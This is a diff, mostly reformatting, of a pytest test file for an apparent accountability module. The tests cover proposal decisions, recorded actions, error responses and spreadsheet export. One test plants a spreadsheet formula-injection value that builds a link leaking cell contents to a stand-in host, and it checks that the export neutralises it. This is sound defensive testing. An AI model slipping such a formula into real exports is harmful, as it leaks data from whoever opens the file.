@@ -1,16 +1,16 @@
 """A coordinator in scope confirms or dismisses a proposal with a reason, then records the action; the API answers
 problem+json; the cadre's record page shows what was done; the lists export to .xlsx."""
+
 import io
 import json
 
 import pytest
 from python_calamine import CalamineWorkbook
 
+from tests.conftest import at
 from whistle.accountability.evaluation import evaluate_rules
 from whistle.accountability.models import Action, Proposal
 from whistle.org.services import token_issue
-
-from tests.conftest import at
 
 
 @pytest.fixture
@@ -29,10 +29,23 @@ def api(client, heze, user, method, path, body=None):
 
 def test_rule_8_4_coordinator_confirms_then_records_a_talk_with_date_participants_outcome(client, heze, proposal):
     base = f"/api/v1/accountability/proposals/{proposal.pk}"
-    r = api(client, heze, "shan_office", "post", f"{base}/decision", {"decision": "confirm", "reason": "差评属实，需约谈"})
+    r = api(
+        client, heze, "shan_office", "post", f"{base}/decision", {"decision": "confirm", "reason": "差评属实，需约谈"}
+    )
     assert r.status_code == 200 and r.json()["state"] == "confirmed"
-    r = api(client, heze, "shan_office", "post", f"{base}/actions",
-            {"kind": "talk", "held_on": "2026-11-20", "participants": "单县吹哨办主任、王强", "outcome": "指出问题，限期整改"})
+    r = api(
+        client,
+        heze,
+        "shan_office",
+        "post",
+        f"{base}/actions",
+        {
+            "kind": "talk",
+            "held_on": "2026-11-20",
+            "participants": "单县吹哨办主任、王强",
+            "outcome": "指出问题，限期整改",
+        },
+    )
     assert r.status_code == 201, r.content
     assert r.json()["kind_label"] == "约谈"
     body = api(client, heze, "shan_office", "get", base).json()
@@ -47,7 +60,12 @@ def test_decision_needs_reason_and_happens_once(client, heze, proposal):
     assert (r.json()["code"], r.json()["field"]) == ("reason_required", "reason")
     r = api(client, heze, "shan_office", "post", path, {"decision": "maybe", "reason": "x"})
     assert r.json()["code"] == "invalid_decision"
-    assert api(client, heze, "shan_office", "post", path, {"decision": "dismiss", "reason": "评价集中于系统故障当日"}).status_code == 200
+    assert (
+        api(
+            client, heze, "shan_office", "post", path, {"decision": "dismiss", "reason": "评价集中于系统故障当日"}
+        ).status_code
+        == 200
+    )
     r = api(client, heze, "shan_office", "post", path, {"decision": "confirm", "reason": "改主意"})
     assert (r.status_code, r.json()["code"]) == (409, "proposal_already_decided")
     proposal.refresh_from_db()
@@ -73,8 +91,18 @@ def test_action_only_on_confirmed_proposal_and_not_in_the_future(client, heze, p
     good = {"kind": "talk", "held_on": "2026-11-20", "participants": "王强", "outcome": "已约谈"}
     r = api(client, heze, "shan_office", "post", path, good)
     assert (r.status_code, r.json()["code"]) == (409, "proposal_not_confirmed")
-    api(client, heze, "shan_office", "post", path.replace("actions", "decision"), {"decision": "confirm", "reason": "属实"})
-    assert api(client, heze, "shan_office", "post", path, {**good, "held_on": "2099-01-01"}).json()["code"] == "held_on_in_future"
+    api(
+        client,
+        heze,
+        "shan_office",
+        "post",
+        path.replace("actions", "decision"),
+        {"decision": "confirm", "reason": "属实"},
+    )
+    assert (
+        api(client, heze, "shan_office", "post", path, {**good, "held_on": "2099-01-01"}).json()["code"]
+        == "held_on_in_future"
+    )
     assert api(client, heze, "shan_office", "post", path, {**good, "kind": "fire"}).json()["code"] == "invalid_kind"
     assert api(client, heze, "shan_office", "post", path, {**good, "outcome": ""}).json()["field"] == "outcome"
     assert api(client, heze, "shan_office", "post", path, {**good, "held_on": "20-11"}).status_code == 422
@@ -93,8 +121,10 @@ def test_pages_list_decide_record_and_cadre_record(client, heze, proposal):
     assert r.status_code == 422 and "请填写理由" in r.content.decode()
     r = client.post(f"/accountability/proposals/{proposal.pk}/decide", {"decision": "confirm", "reason": "属实"})
     assert r.status_code == 302
-    r = client.post(f"/accountability/proposals/{proposal.pk}/actions",
-                    {"kind": "adjust", "held_on": "2026-11-21", "participants": "单县住建局党组", "outcome": "调离窗口岗位"})
+    r = client.post(
+        f"/accountability/proposals/{proposal.pk}/actions",
+        {"kind": "adjust", "held_on": "2026-11-21", "participants": "单县住建局党组", "outcome": "调离窗口岗位"},
+    )
     assert r.status_code == 302
     record = client.get(f"/accountability/cadres/{proposal.cadre_id}/").content.decode()
     assert "调整" in record and "调离窗口岗位" in record and "单县住建局党组" in record
@@ -105,10 +135,22 @@ def test_pages_list_decide_record_and_cadre_record(client, heze, proposal):
 
 
 def test_export_has_proposals_and_actions_in_scope(client, heze, proposal):
-    proposal.state, proposal.decided_by, proposal.decision_reason, proposal.decided_at = "confirmed", heze.users.shan_office, "属实", at(2026, 11, 4)
+    proposal.state, proposal.decided_by, proposal.decision_reason, proposal.decided_at = (
+        "confirmed",
+        heze.users.shan_office,
+        "属实",
+        at(2026, 11, 4),
+    )
     proposal.save()
-    Action.objects.create(proposal=proposal, kind="talk", held_on=at(2026, 11, 5).date(), participants="王强", outcome="已约谈",
-                          recorded_by=heze.users.shan_office, recorded_at=at(2026, 11, 5))
+    Action.objects.create(
+        proposal=proposal,
+        kind="talk",
+        held_on=at(2026, 11, 5).date(),
+        participants="王强",
+        outcome="已约谈",
+        recorded_by=heze.users.shan_office,
+        recorded_at=at(2026, 11, 5),
+    )
     client.force_login(heze.users.shan_office)
     r = client.get("/accountability/export.xlsx")
     book = CalamineWorkbook.from_filelike(io.BytesIO(b"".join(r.streaming_content)))
@@ -121,14 +163,19 @@ def test_export_has_proposals_and_actions_in_scope(client, heze, proposal):
 
 def test_bad_input_is_4xx_never_500(client, heze, proposal):
     base = "/api/v1/accountability/proposals"
-    for path, body in [(f"{base}/{proposal.pk}/decision", {"decision": "confirm", "reason": "a\x00b"}),
-                       (f"{base}/{proposal.pk}/decision", {"decision": None, "reason": 5}),
-                       (f"{base}/{2 ** 70}/decision", {"decision": "confirm", "reason": "x"}),
-                       (f"{base}/-1/actions", {"kind": "talk", "held_on": "2026-11-01", "participants": "a", "outcome": "b"}),
-                       (f"{base}/{proposal.pk}/actions", {"kind": "talk", "held_on": "2026-13-45", "participants": "a", "outcome": "b"})]:
+    for path, body in [
+        (f"{base}/{proposal.pk}/decision", {"decision": "confirm", "reason": "a\x00b"}),
+        (f"{base}/{proposal.pk}/decision", {"decision": None, "reason": 5}),
+        (f"{base}/{2**70}/decision", {"decision": "confirm", "reason": "x"}),
+        (f"{base}/-1/actions", {"kind": "talk", "held_on": "2026-11-01", "participants": "a", "outcome": "b"}),
+        (
+            f"{base}/{proposal.pk}/actions",
+            {"kind": "talk", "held_on": "2026-13-45", "participants": "a", "outcome": "b"},
+        ),
+    ]:
         r = api(client, heze, "shan_office", "post", path, body)
         assert 400 <= r.status_code < 500 and r["Content-Type"] == "application/problem+json", (path, body, r.content)
-    assert api(client, heze, "shan_office", "get", f"{base}/{2 ** 70}").status_code in (404, 422)
+    assert api(client, heze, "shan_office", "get", f"{base}/{2**70}").status_code in (404, 422)
     assert api(client, heze, "shan_office", "get", f"{base}?state=nope").json()["code"] == "invalid_state"
     proposal.refresh_from_db()
     assert proposal.state == "pending"
@@ -139,10 +186,22 @@ def test_export_writes_user_text_as_text_in_the_accountability_export(client, he
     import zipfile
 
     formula = '=HYPERLINK("http://x?"&B2,"点我")'
-    proposal.state, proposal.decided_by, proposal.decision_reason, proposal.decided_at = "confirmed", heze.users.shan_office, formula, at(2026, 11, 4)
+    proposal.state, proposal.decided_by, proposal.decision_reason, proposal.decided_at = (
+        "confirmed",
+        heze.users.shan_office,
+        formula,
+        at(2026, 11, 4),
+    )
     proposal.save()
-    Action.objects.create(proposal=proposal, kind="talk", held_on=at(2026, 11, 5).date(), participants="+王强", outcome=formula,
-                          recorded_by=heze.users.shan_office, recorded_at=at(2026, 11, 5))
+    Action.objects.create(
+        proposal=proposal,
+        kind="talk",
+        held_on=at(2026, 11, 5).date(),
+        participants="+王强",
+        outcome=formula,
+        recorded_by=heze.users.shan_office,
+        recorded_at=at(2026, 11, 5),
+    )
     client.force_login(heze.users.shan_office)
     body = b"".join(client.get("/accountability/export.xlsx").streaming_content)
     with zipfile.ZipFile(io.BytesIO(body)) as book:
